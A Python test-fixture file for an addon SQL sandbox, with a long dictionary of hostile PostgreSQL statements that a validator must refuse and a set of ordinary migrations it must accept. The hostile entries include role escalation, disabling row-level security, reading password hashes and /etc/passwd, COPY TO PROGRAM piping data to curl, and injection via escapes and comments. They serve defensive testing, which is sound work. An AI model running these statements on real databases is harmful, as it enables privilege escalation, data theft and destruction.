"""SQL that an addon could try, and SQL that real addons write."""

from __future__ import annotations

SETUP = "CREATE TABLE notes (id uuid PRIMARY KEY, organization_id uuid NOT NULL, body text, n int);\n"
"""Runs before each hostile statement, so that a refusal is not about a missing table."""

HOSTILE: dict[str, str] = {
    "do block": "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
    "do block, mixed case and comments": "dO /* */ LANGUAGE plpgsql $x$ BEGIN NULL; END $x$",
    "set role": "SET ROLE metacore_owner",
    "set local role": "SET LOCAL ROLE metacore_owner",
    "reset role": "RESET ROLE",
    "reset role behind a comment": "/* harmless */ RE/**/SET ROLE",
    "set session authorization": "SET SESSION AUTHORIZATION metacore_owner",
    "reset session authorization": "RESET SESSION AUTHORIZATION",
    "reset all": "RESET ALL",
    "discard all": "DISCARD ALL",
    "search path": "SET search_path = public",
    "search path, local": "SET LOCAL search_path TO public, pg_catalog",
    "search path by function": "SELECT set_config('search_path', 'public', false)",
    "search path by qualified function": "SELECT pg_catalog.set_config('search_path', 'public', false)",
    "a call as a field": "UPDATE notes SET body = ('SELECT 1'::text).ts_stat::text",
    "a call as a field, in a default": "ALTER TABLE notes ADD COLUMN x text DEFAULT ('SELECT 1'::text).query_to_xml",
    "a call as a field, in a check": "ALTER TABLE notes ADD CHECK ((body).pg_sleep IS NULL)",
    "a call as a field, in a generated column": (
        "ALTER TABLE notes ADD COLUMN x text GENERATED ALWAYS AS ((body).current_setting) STORED"
    ),
    "a call as a field, in an index": "CREATE INDEX ON notes (((body).current_setting))",
    "a call as a field, in a view": "CREATE VIEW v AS SELECT q.ts_stat FROM unnest(ARRAY['SELECT 1']) q",
    "a call as a field, in a data change": (
        "UPDATE notes SET n = 1 FROM unnest(ARRAY['SELECT 1']) q WHERE q.ts_stat IS NOT NULL"
    ),
    "a call as a field of a parameter": (
        "CREATE FUNCTION f(p text) RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT (SELECT p.current_setting); END"
    ),
    "a call as a field of a parameter, returned": (
        "CREATE FUNCTION f(p text) RETURNS text LANGUAGE sql RETURN p.current_setting"
    ),
    "a call as a field of a parameter, in a string": (
        "CREATE FUNCTION f(p text) RETURNS text LANGUAGE sql AS 'SELECT p.current_setting'"
    ),
    "a call as a field of a numbered parameter": (
        "CREATE FUNCTION f(text) RETURNS text LANGUAGE sql AS 'SELECT ($1).current_setting'"
    ),
    "a call as a field of a parameter of the function": (
        "CREATE FUNCTION f(p text) RETURNS text LANGUAGE sql RETURN f.p.current_setting"
    ),
    "tenant by function": "SELECT set_config('app.current_org', '00000000-0000-0000-0000-000000000000', false)",
    "alter role setting": "ALTER ROLE CURRENT_USER SET search_path = public",
    "alter database setting": "ALTER DATABASE postgres SET row_security = off",
    "alter system": "ALTER SYSTEM SET fsync = off",
    "row security of another addon": "ALTER TABLE addon_other.secrets DISABLE ROW LEVEL SECURITY",
    "row security of its own": "ALTER TABLE notes DISABLE ROW LEVEL SECURITY",
    "no force row security": "ALTER TABLE notes NO FORCE ROW LEVEL SECURITY",
    "row security, second command": "ALTER TABLE notes ADD COLUMN x int, NO FORCE ROW LEVEL SECURITY",
    "row security setting": "SET row_security = off",
    "drop policy": "DROP POLICY metacore_tenant ON notes",
    "create policy": "CREATE POLICY all_of_it ON notes USING (true)",
    "alter policy": "ALTER POLICY metacore_tenant ON notes USING (true)",
    "owner": "ALTER TABLE notes OWNER TO metacore_kernel",
    "owner of schema": "ALTER SCHEMA public OWNER TO CURRENT_USER",
    "reassign owned": "REASSIGN OWNED BY metacore_owner TO CURRENT_USER",
    "set schema": "ALTER TABLE notes SET SCHEMA public",
    "alter other schema": "ALTER TABLE addon_other.secrets ADD COLUMN x int",
    "read other schema": "INSERT INTO notes (body) SELECT token FROM addon_other.secrets",
    "read other schema in a CTE": "WITH a AS (SELECT 1), b AS (SELECT * FROM addon_other.secrets) SELECT * FROM b",
    "write other schema in a CTE": "WITH a AS (DELETE FROM public.users RETURNING *) SELECT * FROM a",
    "kernel table, unqualified": "UPDATE notes SET body = (SELECT password_hash FROM users LIMIT 1)",
    "kernel table behind a CTE of its name": (
        "WITH a AS (SELECT * FROM users), users AS (SELECT 1) INSERT INTO notes (body) SELECT a::text FROM a"
    ),
    "kernel table written": "INSERT INTO permission_role_grants (role, capability) VALUES ('agent', '*')",
    "kernel table, unicode escapes": 'SELECT * FROM U&"p\\0075blic"."users"',
    "kernel table, custom unicode escape": "SELECT * FROM U&\"!0075sers\" UESCAPE '!'",
    "kernel table, quoted case": 'SELECT * FROM "public"."users"',
    "kernel table by database": "SELECT * FROM metacore.public.users",
    "kernel table in a join": "DELETE FROM notes USING metacore_installations i WHERE i.organization_id = notes.id",
    "kernel table in merge": (
        "MERGE INTO notes USING users u ON false WHEN NOT MATCHED THEN INSERT (body) VALUES (u.password_hash)"
    ),
    "kernel table in a lateral subquery": "SELECT * FROM notes, LATERAL (SELECT * FROM auth_sessions) s",
    "kernel table in a sublink": "SELECT EXISTS (SELECT FROM organizations) FROM notes",
    "kernel table in returning": "INSERT INTO notes (n) VALUES (1) RETURNING (SELECT count(*) FROM users)",
    "kernel table in on conflict": (
        "INSERT INTO notes (n) VALUES (1) ON CONFLICT (id) DO UPDATE SET body = (SELECT email FROM users LIMIT 1)"
    ),
    "kernel table in a check": "ALTER TABLE notes ADD CHECK (EXISTS (SELECT FROM users))",
    "kernel table referenced": "ALTER TABLE notes ADD CONSTRAINT f FOREIGN KEY (id) REFERENCES users (id)",
    "kernel table referenced by a column": "CREATE TABLE spies (id uuid REFERENCES public.users (id))",
    "kernel table copied": "CREATE TABLE copy AS SELECT * FROM users",
    "kernel table's shape copied": "CREATE TABLE copy (LIKE users INCLUDING ALL)",
    "kernel table truncated": "TRUNCATE notes, users",
    "kernel table dropped": "DROP TABLE IF EXISTS users CASCADE",
    "kernel table locked": "LOCK TABLE users IN ACCESS EXCLUSIVE MODE",
    "kernel table after a drop of its twin": (
        "CREATE TABLE products (a int); DROP TABLE products; "
        "CREATE VIEW v WITH (security_invoker) AS SELECT * FROM products"
    ),
    "host table after a cascade": (
        "CREATE TABLE t (a int); CREATE VIEW products WITH (security_invoker) AS SELECT a FROM t; "
        "ALTER TABLE t DROP COLUMN a CASCADE; CREATE VIEW w WITH (security_invoker) AS SELECT * FROM products"
    ),
    "select into": "SELECT * INTO users FROM notes",
    "catalog": "SELECT * FROM pg_authid",
    "catalog, qualified": "SELECT rolpassword FROM pg_catalog.pg_authid",
    "catalog, quoted": 'SELECT * FROM "pg_shadow"',
    "information schema": "SELECT * FROM information_schema.tables",
    "catalog written": "UPDATE pg_class SET relrowsecurity = false",
    "copy to program": "COPY notes TO PROGRAM 'curl http://example.com -d @-'",
    "copy from program": "COPY notes (body) FROM PROGRAM 'id'",
    "copy query": "COPY (SELECT * FROM public.users) TO '/tmp/x'",
    "extension": "CREATE EXTENSION dblink",
    "extension, if not exists": 'create extension if not exists "postgres_fdw" with schema public',
    "foreign server": "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
    "foreign table": "CREATE FOREIGN TABLE f (a int) SERVER s",
    "language": "CREATE LANGUAGE plpython3u",
    "load": "LOAD 'auto_explain'",
    "security definer": ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'"),
    "external security definer": "CREATE FUNCTION f() RETURNS int LANGUAGE sql EXTERNAL SECURITY DEFINER RETURN 1",
    "security definer afterwards": "ALTER FUNCTION f() SECURITY DEFINER",
    "plpgsql": "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'RESET ROLE'; END $$",
    "plpgsql, quoted language": "CREATE FUNCTION f() RETURNS void AS 'begin end' LANGUAGE 'PLPGSQL'",
    "c function": "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc', 'system'",
    "internal function": "CREATE FUNCTION f(text) RETURNS void LANGUAGE internal AS 'pg_reload_conf'",
    "function with settings": "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = public AS 'SELECT 1'",
    "function that reads the kernel": (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT password_hash FROM users LIMIT 1 $$"
    ),
    "function that names its own table late": (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT body FROM notes LIMIT 1 $$"
    ),
    "function bound to the kernel": (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT password_hash FROM users; END"
    ),
    "function that resets its role": "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'RESET ROLE'",
    "function with two bodies in one": (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1; DROP TABLE users; $$"
    ),
    "function default": (
        "CREATE FUNCTION f(a text DEFAULT pg_read_file('/etc/passwd')) RETURNS text LANGUAGE sql RETURN a"
    ),
    "function that shadows a builtin": "CREATE FUNCTION lower(int) RETURNS text LANGUAGE sql RETURN 'x'",
    "procedure": "CREATE PROCEDURE p() LANGUAGE sql AS 'COMMIT'",
    "call": "CALL p()",
    "file read": "INSERT INTO notes (body) SELECT pg_read_file('/etc/passwd')",
    "file read in a default": "ALTER TABLE notes ADD COLUMN leak text DEFAULT pg_read_file('/etc/passwd')",
    "file read, qualified": "ALTER TABLE notes ALTER body SET DEFAULT pg_catalog.pg_read_binary_file('/etc/passwd')",
    "file read in a generated column": "CREATE TABLE t (a text GENERATED ALWAYS AS (pg_read_file('x')) STORED)",
    "file read in an index": "CREATE INDEX i ON notes (pg_read_file(body))",
    "file read in an index predicate": "CREATE INDEX i ON notes (n) WHERE pg_ls_dir(body) IS NOT NULL",
    "file read in a from clause": "SELECT * FROM pg_ls_dir('/')",
    "file read in rows from": "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS x",
    "file read in a window": "SELECT first_value(pg_read_file('x')) OVER (ORDER BY pg_stat_file('y')) FROM notes",
    "file read in a filter": "SELECT count(*) FILTER (WHERE pg_read_file('x') = '') FROM notes",
    "file read in limit": "SELECT 1 LIMIT (SELECT length(pg_read_file('x')))",
    "file read in a domain": "CREATE DOMAIN d AS text CHECK (pg_read_file(VALUE) <> '')",
    "large object": "SELECT lo_import('/etc/passwd')",
    "large object export": "SELECT lo_export(1, '/tmp/x')",
    "dblink": "SELECT dblink_exec('host=localhost user=postgres', 'DROP TABLE users')",
    "query to xml": "SELECT query_to_xml('SELECT * FROM public.users', true, false, '')",
    "text search statistics": "SELECT * FROM ts_stat('SELECT password_hash::tsvector FROM public.users')",
    "text search rewrite": "SELECT ts_rewrite('a'::tsquery, 'SELECT a, b FROM public.users')",
    "xml table": "SELECT * FROM XMLTABLE('/a' PASSING ('<a/>') COLUMNS b text)",
    "terminate": "SELECT pg_terminate_backend(1)",
    "sleep": "SELECT pg_sleep(3600)",
    "advisory lock": "SELECT pg_advisory_lock(1)",
    "reload": "SELECT pg_reload_conf()",
    "notify function": "SELECT pg_notify('metacore_registry', '1')",
    "notify": "NOTIFY metacore_registry, '1'",
    "listen": "LISTEN metacore_auth",
    "definer of the kernel": "SELECT * FROM metacore_login('a@example.com')",
    "regclass cast": "SELECT 'public.users'::regclass",
    "regclass by function": "SELECT regclass('public.users')",
    "regclass by cast": "SELECT CAST('addon_other.secrets' AS regclass)::oid FROM notes",
    "regclass array": "SELECT '{public.users}'::regclass[]",
    "regproc cast": "SELECT 'pg_read_file'::regproc",
    "regclass column": "CREATE TABLE t (a regclass)",
    "sequence of another schema": "SELECT nextval('public.other_seq')",
    "sequence computed": "SELECT setval(('pub' || 'lic.other_seq')::regclass, 1)",
    "sequence owned elsewhere": "CREATE SEQUENCE s OWNED BY public.users.id",
    "type of another schema": "CREATE TABLE t (a addon_other.kind)",
    "type of a column": "CREATE FUNCTION f(a users.email%TYPE) RETURNS int LANGUAGE sql RETURN 1",
    "operator of another schema": "SELECT 1 OPERATOR(public.+) 2",
    "operator in order by": "SELECT * FROM notes ORDER BY n USING OPERATOR(public.<)",
    "operator in any": "SELECT 1 OPERATOR(public.=) ANY (SELECT n FROM notes)",
    "collation of another schema": 'SELECT body COLLATE addon_other."x" FROM notes',
    "operator class of another schema": "CREATE INDEX i ON notes (body addon_other.ops)",
    "three-part column": "SELECT public.notes.body FROM notes",
    "grant": "GRANT ALL ON notes TO PUBLIC",
    "grant role": "GRANT metacore_owner TO CURRENT_USER",
    "revoke": "REVOKE ALL ON notes FROM metacore_kernel",
    "default privileges": "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
    "create role": "CREATE ROLE intruder SUPERUSER",
    "alter role": "ALTER ROLE CURRENT_USER BYPASSRLS",
    "create schema": "CREATE SCHEMA mine",
    "create schema with elements": "CREATE SCHEMA mine CREATE TABLE t (a int)",
    "drop schema": "DROP SCHEMA public CASCADE",
    "drop owned": "DROP OWNED BY CURRENT_USER",
    "event trigger": "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()",
    "trigger": "CREATE TRIGGER t BEFORE INSERT ON notes FOR EACH ROW EXECUTE FUNCTION f()",
    "trigger on a kernel table": (
        "CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()"
    ),
    "trigger disabled": "ALTER TABLE notes DISABLE TRIGGER ALL",
    "rule": "CREATE RULE r AS ON SELECT TO notes DO INSTEAD SELECT * FROM users",
    "rule with an action": "CREATE RULE r AS ON INSERT TO notes DO ALSO DELETE FROM users",
    "view without invoker": "CREATE VIEW v AS SELECT * FROM notes",
    "view with invoker off": "CREATE VIEW v WITH (security_invoker = off) AS SELECT * FROM notes",
    "view of a kernel table": "CREATE VIEW v WITH (security_invoker) AS SELECT * FROM users",
    "view turned around": (
        "CREATE VIEW v WITH (security_invoker) AS SELECT * FROM notes; ALTER VIEW v SET (security_invoker = false)"
    ),
    "materialized view": "CREATE MATERIALIZED VIEW m AS SELECT * FROM notes",
    "temporary table": "CREATE TEMP TABLE t (a int)",
    "temporary schema": "CREATE TABLE pg_temp.t (a int)",
    "temporary view": "CREATE TEMPORARY VIEW v WITH (security_invoker) AS SELECT 1",
    "unlogged table": "CREATE UNLOGGED TABLE t (a int)",
    "inherits": "CREATE TABLE t () INHERITS (public.users)",
    "inherits later": "ALTER TABLE notes INHERIT public.users",
    "partition of": "CREATE TABLE t PARTITION OF public.events DEFAULT",
    "partitioned": "CREATE TABLE t (a int) PARTITION BY LIST (a)",
    "typed table": "CREATE TABLE t OF addon_other.kind",
    "tablespace": "CREATE TABLE t (a int) TABLESPACE pg_default",
    "index tablespace": "CREATE INDEX i ON notes (n) TABLESPACE pg_default",
    "index on another table": "CREATE INDEX i ON public.users (email)",
    "kernel column dropped": "ALTER TABLE notes DROP COLUMN organization_id CASCADE",
    "kernel column renamed": "ALTER TABLE notes RENAME COLUMN organization_id TO other",
    "kernel column retyped": "ALTER TABLE notes ALTER COLUMN organization_id TYPE text",
    "begin": "BEGIN",
    "commit": "COMMIT",
    "commit and set role": "COMMIT; RESET ROLE; BEGIN",
    "rollback": "ROLLBACK",
    "savepoint": "SAVEPOINT a",
    "prepare transaction": "PREPARE TRANSACTION 'a'",
    "explain analyze": "EXPLAIN ANALYZE DELETE FROM users",
    "explain analyze of create table as": "EXPLAIN (ANALYZE) CREATE TABLE t AS SELECT * FROM public.users",
    "prepare": "PREPARE p AS DELETE FROM public.users",
    "execute": "EXECUTE p",
    "create table as execute": "CREATE TABLE t AS EXECUTE p",
    "cursor": "DECLARE c CURSOR FOR SELECT * FROM public.users",
    "vacuum": "VACUUM FULL",
    "cluster": "CLUSTER",
    "reindex": "REINDEX DATABASE postgres",
    "publication": "CREATE PUBLICATION p FOR ALL TABLES",
    "subscription": "CREATE SUBSCRIPTION s CONNECTION 'host=example.com' PUBLICATION p",
    "security label": "SECURITY LABEL ON TABLE notes IS 'x'",
    "cast": "CREATE CAST (text AS int) WITH INOUT AS IMPLICIT",
    "operator": "CREATE OPERATOR === (FUNCTION = texteq, LEFTARG = text, RIGHTARG = text)",
    "aggregate": "CREATE AGGREGATE a (text) (SFUNC = textcat, STYPE = text)",
    "comment on another table": "COMMENT ON TABLE public.users IS 'x'",
    "comment on the schema": "COMMENT ON SCHEMA public IS 'x'",
    "comment on a role": "COMMENT ON ROLE metacore_owner IS 'x'",
    "current user": "INSERT INTO notes (body) VALUES (session_user)",
    "reserved name": "CREATE TABLE metacore_installations (id uuid)",
    "reserved name, quoted": 'CREATE TABLE "pg_notes" (id uuid)',
    "name of a kernel table": "CREATE TABLE users (id uuid)",
    "renamed to a kernel table": "ALTER TABLE notes RENAME TO organizations",
    "not SQL": "this is not SQL",
    "string that ends early": "SELECT 'a\\'; DROP TABLE users; --'",
    "escape string": "SELECT E'a\\'; DROP TABLE users; --' ; DROP TABLE public.users",
    "dollar quotes": "SELECT $a$ $b$ $a$; DROP TABLE public.users; -- $b$",
    "nested comment": "/* /* */ SELECT 1; */ DROP TABLE public.users",
    "second statement after a comment": "SELECT 1; -- fine\nDROP TABLE public.users",
    "carriage return after a comment": "SELECT 1 -- fine\rFROM public.users",
    "NUL": "SELECT 1;\x00DROP TABLE public.users",
}

HARMLESS: dict[str, str] = {
    "a table as real bundles write it": """
        CREATE TABLE IF NOT EXISTS customers (
          id UUID PRIMARY KEY DEFAULT gen_random_uuid(),
          organization_id UUID NOT NULL,
          created_by_id UUID,
          name VARCHAR(255) NOT NULL CHECK (length(trim(name)) > 0),
          email TEXT UNIQUE,
          balance NUMERIC(18,4) NOT NULL DEFAULT 0,
          tags TEXT[] NOT NULL DEFAULT '{}',
          meta JSONB NOT NULL DEFAULT '{}'::jsonb,
          number SERIAL,
          created_at TIMESTAMP DEFAULT CURRENT_TIMESTAMP,
          updated_at TIMESTAMPTZ DEFAULT NOW(),
          deleted_at TIMESTAMPTZ
        );
        CREATE INDEX IF NOT EXISTS idx_customers_org ON customers (organization_id);
        CREATE UNIQUE INDEX ON customers (organization_id, lower(email)) WHERE deleted_at IS NULL;
        CREATE INDEX customers_meta ON customers USING gin (meta jsonb_path_ops);
        COMMENT ON TABLE customers IS 'Who buys; "quotes" and semicolons; here';
        COMMENT ON COLUMN customers.email IS 'lower case';
    """,
    "columns, constraints, keys": """
        CREATE TABLE a (id uuid PRIMARY KEY, organization_id uuid NOT NULL, code int);
        CREATE TABLE b (
          id bigserial PRIMARY KEY, organization_id uuid NOT NULL,
          a_id uuid NOT NULL REFERENCES a (id) ON DELETE CASCADE,
          parent_id bigint REFERENCES b, total numeric(12, 2) GENERATED ALWAYS AS (1 + 2) STORED,
          CONSTRAINT positive CHECK (total >= 0), EXCLUDE USING btree (parent_id WITH =)
        );
        ALTER TABLE a ADD COLUMN IF NOT EXISTS note text DEFAULT 'x', ALTER COLUMN code SET DEFAULT 7,
          ADD CONSTRAINT a_code UNIQUE (organization_id, code);
        ALTER TABLE a ALTER COLUMN code TYPE bigint USING code::bigint, ALTER code SET NOT NULL;
        ALTER TABLE b DROP CONSTRAINT positive;
        ALTER TABLE a RENAME COLUMN note TO remark;
        ALTER TABLE b RENAME TO bs;
        ALTER TABLE bs ADD COLUMN again int;
        DROP INDEX IF EXISTS whatever;
    """,
    "types": """
        CREATE TYPE status AS ENUM ('open', 'done');
        ALTER TYPE status ADD VALUE IF NOT EXISTS 'late' AFTER 'open';
        CREATE DOMAIN email AS text CHECK (VALUE ~ '^[^@]+@[^@]+$');
        CREATE TYPE point3 AS (x int, y int, z int);
        CREATE TABLE t (id uuid, organization_id uuid, s status NOT NULL DEFAULT 'open', e email, p point3[]);
        COMMENT ON TYPE status IS 'of a ticket';
        DROP TABLE t;
        DROP TYPE point3;
    """,
    "seeds and backfills": """
        CREATE TABLE kinds (id uuid DEFAULT gen_random_uuid(), organization_id uuid, code text UNIQUE, n int);
        INSERT INTO kinds (code, n) VALUES ('a', 1), ('b', 2) ON CONFLICT (code) DO NOTHING;
        INSERT INTO kinds (code, n)
          SELECT 'x' || g::text, g FROM generate_series(1, 3) AS g WHERE NOT EXISTS (SELECT 1 FROM kinds WHERE n = g);
        UPDATE kinds k SET n = coalesce(s.total, 0) FROM (SELECT code, sum(n) AS total FROM kinds GROUP BY code) s
          WHERE s.code = k.code AND k.n IS NULL;
        WITH ranked AS (SELECT id, row_number() OVER (PARTITION BY code ORDER BY n DESC) AS r FROM kinds)
          DELETE FROM kinds USING ranked WHERE ranked.id = kinds.id AND ranked.r > 1;
        WITH RECURSIVE steps (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM steps WHERE i < 5)
          UPDATE kinds SET n = (SELECT max(i) FROM steps) WHERE code = 'a';
        UPDATE kinds SET code = CASE WHEN n BETWEEN 1 AND 2 THEN upper(code) ELSE initcap(trim(both ' ' FROM code)) END,
          n = extract(year FROM now())::int + date_part('month', current_date)::int;
        TRUNCATE kinds;
    """,
    "sequences": """
        CREATE SEQUENCE numbers START 10;
        CREATE TABLE t (id int DEFAULT nextval('numbers'::regclass), organization_id uuid);
        ALTER SEQUENCE numbers OWNED BY t.id;
        SELECT setval('numbers', 20, true);
    """,
    "views and functions": """
        CREATE TABLE t (id uuid, organization_id uuid, price numeric, amount int);
        CREATE VIEW totals WITH (security_invoker = true) AS SELECT id, price * amount AS total FROM t;
        CREATE OR REPLACE FUNCTION gross(net numeric, rate numeric DEFAULT 0.19) RETURNS numeric
          LANGUAGE sql IMMUTABLE STRICT PARALLEL SAFE AS $$ SELECT round(net * (1 + rate), 2) $$;
        CREATE FUNCTION total_of(item uuid) RETURNS numeric LANGUAGE sql STABLE
          BEGIN ATOMIC SELECT total FROM totals WHERE totals.id = item; END;
        UPDATE t SET price = gross(price) WHERE total_of(id) > 3;
        CREATE TRIGGER quiet BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger();
        DROP FUNCTION total_of(uuid);
        DROP VIEW totals;
    """,
    "only comments": "-- nothing to do\n/* at all */\n",
    "empty": "",
}
